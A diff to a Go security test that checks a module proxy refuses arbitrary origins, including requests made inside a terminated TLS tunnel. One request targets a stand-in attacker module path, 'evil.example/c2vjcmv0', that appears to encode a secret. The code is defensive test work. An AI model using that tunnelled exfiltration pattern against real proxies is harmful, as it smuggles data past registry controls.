@@ -69,18 +69,24 @@ func TestGoProxyCannotFetchArbitraryOrigins(t *testing.T) {
 					t.Errorf("%s: %d %s", p, code, body)
 				}
 			}
-			// A tunnel to the mirror would hide every path.
-			req, _ := http.NewRequest(http.MethodConnect, r.url, nil)
-			req.Host = "example.com:443"
-			req.URL.Opaque = "example.com:443"
-			resp, err := http.DefaultTransport.RoundTrip(req)
+			// Inside a terminated tunnel the mirror's rules are the same.
+			tc := tunnelClient(r)
+			resp, err := tc.Get("https://example.com/evil.example/c2vjcmv0/@v/list")
 			if err != nil {
 				t.Fatal(err)
 			}
 			resp.Body.Close()
-			if resp.StatusCode != http.StatusForbidden {
-				t.Errorf("CONNECT to the mirror: %d, want 403", resp.StatusCode)
+			switch mode {
+			case GoProxy:
+				if resp.StatusCode != http.StatusForbidden {
+					t.Errorf("the attack inside TLS: %d, want 403", resp.StatusCode)
+				}
+			case GoProxyCachedOnly:
+				if up.count("/cached-only/evil.example/c2vjcmv0/@v/list") != 2 || up.count("/evil.example/c2vjcmv0/@v/list") != 0 {
+					t.Errorf("inside TLS the attacker's module path reached the mirror outside /cached-only")
+				}
 			}
+			tc.CloseIdleConnections()
 			r.p.Close()
 			refused := 0
 			for _, f := range r.ledger(t, s) {
@@ -88,7 +94,7 @@ func TestGoProxyCannotFetchArbitraryOrigins(t *testing.T) {
 					refused++
 				}
 			}
-			if want := 8 + map[Registry]int{GoProxy: 1}[mode]; refused != want {
+			if want := 7 + map[Registry]int{GoProxy: 2}[mode]; refused != want {
 				t.Errorf("%d refusals in the ledger, want %d", refused, want)
 			}
 		})
